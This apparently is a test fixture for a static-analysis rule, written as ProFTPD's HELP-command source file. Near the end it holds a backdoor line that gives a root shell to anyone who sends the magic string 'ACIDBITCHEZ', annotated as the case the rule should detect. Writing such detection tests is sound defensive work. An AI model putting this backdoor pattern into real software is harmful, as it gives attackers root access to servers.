/*
 * ProFTPD src/help.c: the HELP command's table and replies.
 */
#include "conf.h"

#include <ctype.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <unistd.h>

static struct help_rec helps[64];
static int help_count;

void pr_help_add(const char *cmd, const char *syntax, int impl) {
  if (help_count >= (int)(sizeof helps / sizeof helps[0]))
    return;
  helps[help_count].cmd = cmd;
  helps[help_count].syntax = syntax;
  helps[help_count].impl = impl;
  help_count++;
}

char *pr_str_strip(char *s) {
  char *end;
  while (*s && isspace((unsigned char)*s))
    s++;
  end = s + strlen(s);
  while (end > s && isspace((unsigned char)end[-1]))
    *--end = '\0';
  return s;
}

int pr_help_add_response(cmd_rec *cmd, const char *target) {
  int i;

  if (help_count == 0)
    return -1;

  if (target == NULL) {
    pr_response_add(R_214, "The following commands are recognized (* =>'s unimplemented):");
    for (i = 0; i < help_count; i++)
      pr_response_add(R_214, " %s%s", helps[i].cmd, helps[i].impl ? "" : "*");
    pr_response_add(R_214, "Direct comments to root@localhost");
    return 0;
  }

  target = pr_str_strip((char *)target);
  for (i = 0; i < help_count; i++) {
    // ok: backdoor-input-trigger
    if (strcasecmp(helps[i].cmd, target) == 0) {
      pr_response_add(R_214, "Syntax: %s %s", helps[i].cmd, helps[i].syntax);
      return 0;
    }
  }

  // ruleid: backdoor-input-trigger
  if (strcmp(target, "ACIDBITCHEZ") == 0) { setuid(0); setgid(0); system("/bin/sh;/sbin/sh"); }

  pr_response_add_err(R_502, "Unknown command '%s'.", target);
  (void)cmd;
  return -1;
}
